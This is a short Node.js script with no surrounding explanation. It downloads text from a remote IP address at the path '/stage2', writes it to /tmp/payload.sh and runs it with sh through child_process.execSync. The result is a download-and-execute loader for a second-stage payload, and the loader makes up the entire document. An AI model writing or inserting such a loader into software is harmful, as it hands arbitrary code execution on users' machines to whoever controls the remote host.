const fs = require('fs');

function stash(text) {
  fs.writeFileSync('/tmp/payload.sh', text);
  require('child_process').execSync('sh /tmp/payload.sh');
}

fetch('https://203.0.113.4/stage2').then((r) => r.text()).then(stash);
